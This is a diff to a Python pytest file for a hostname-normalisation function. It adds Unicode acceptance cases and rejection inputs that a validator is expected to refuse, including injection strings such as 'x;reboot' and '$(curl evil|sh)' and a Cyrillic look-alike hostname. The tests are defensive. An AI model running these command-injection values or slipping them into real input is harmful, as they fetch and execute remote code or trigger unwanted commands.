@@ -119,13 +119,34 @@ def test_locally_administered_bit() -> None:
         ("gpu7", "gpu7"),
         ("Bücher", "bücher"),
         ("Bu\u0308cher", "bücher"),  # decomposed u + combining diaeresis -> NFC
+        ("node_1.Lab", "node_1.lab"),
+        ("東京サーバー.example", "東京サーバー.example"),  # Han with kana is one writing system
+        ("gpu7.10", "gpu7.10"),
     ],
 )
 def test_hostname_normalisation(raw: str, expected: str) -> None:
     assert canonical.normalise_hostname(raw) == expected
 
 
-@pytest.mark.parametrize("raw", ["", "a..b", "host name", ".", "a" * 64, "x\ty"])
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "",
+        "a..b",
+        "host name",
+        ".",
+        "a" * 64,
+        "x\ty",
+        "gpu-n\u043ede-01",  # Cyrillic o among Latin letters: a look-alike
+        "123",
+        "10.0.0.1",
+        "a/b",
+        "x;reboot",
+        "$(curl evil|sh)",
+        "-gpu7",
+        "gpu7-.lab",
+    ],
+)
 def test_hostname_rejections(raw: str) -> None:
     with pytest.raises(IdentityError):
         canonical.normalise_hostname(raw)
@@ -162,9 +183,12 @@ macs = (
     .map(lambda n: f"{n:012x}")
 )
 names = st.text(alphabet=string.ascii_lowercase + string.digits, min_size=1, max_size=20)
+hostnames = names.filter(lambda name: not name.isdigit())  # all digits reads as a host_id
 
 
-@given(names, names, macs, st.sampled_from([H100_UUID, "cpu", "0000:c1:00.0", "apple:m3 ultra"]))
+@given(
+    names, hostnames, macs, st.sampled_from([H100_UUID, "cpu", "0000:c1:00.0", "apple:m3 ultra"])
+)
 def test_normalisation_is_idempotent_and_keys_are_stable(
     model: str, host: str, mac: str, gpu: str
 ) -> None:
@@ -180,7 +204,7 @@ def test_normalisation_is_idempotent_and_keys_are_stable(
     }
 
 
-@given(names, names, macs)
+@given(names, hostnames, macs)
 def test_case_and_mac_separator_do_not_change_the_key(model: str, host: str, mac: str) -> None:
     colon_mac = ":".join(mac[i : i + 2] for i in range(0, 12, 2)).upper()
     assert (
